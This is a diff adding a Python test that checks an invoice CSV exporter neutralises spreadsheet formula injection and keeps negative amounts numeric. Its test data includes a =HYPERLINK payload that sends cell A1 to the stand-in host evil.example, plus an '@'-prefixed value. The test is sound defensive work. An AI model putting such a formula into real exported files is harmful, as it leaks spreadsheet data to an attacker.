@@ -74,3 +74,21 @@ def test_flat_files_refuse_floats_and_documents_that_do_not_add_up():
     document["taxes"][0]["tax"] = "50.73"
     with pytest.raises(DocumentError, match="rounded half-up"):
         write_json([document], io.StringIO())
+
+
+def test_csv_neutralises_formulas_in_text_and_keeps_negative_amounts_numeric():
+    """An adjustment reason such as =HYPERLINK(...) is written as text; the credit's -4.98 stays a number."""
+    document = example_document()
+    adjustment = next(line for section in document["sections"] for line in section["lines"]
+                      if line["kind"] == "adjustment")
+    adjustment["description"] = '=HYPERLINK("http://evil.example/?"&A1,"Goodwill credit")'
+    document["customer"]["number"] = "@C-1001"
+    stream = io.StringIO(newline="")
+    write_csv([document], stream)
+    rows = list(csv.DictReader(io.StringIO(stream.getvalue(), newline="")))
+    credit = next(row for row in rows if row["kind"] == "adjustment")
+    assert credit["description"] == "'" + adjustment["description"]
+    assert credit["amount"] == "-4.98" and credit["customer"] == "'@C-1001"
+    assert rows[0]["subscription"] == "+45 20 00 00 01"  # a phone number is not a formula
+    for row in rows:
+        assert not any(cell.startswith(("=", "@")) for cell in row.values()), row
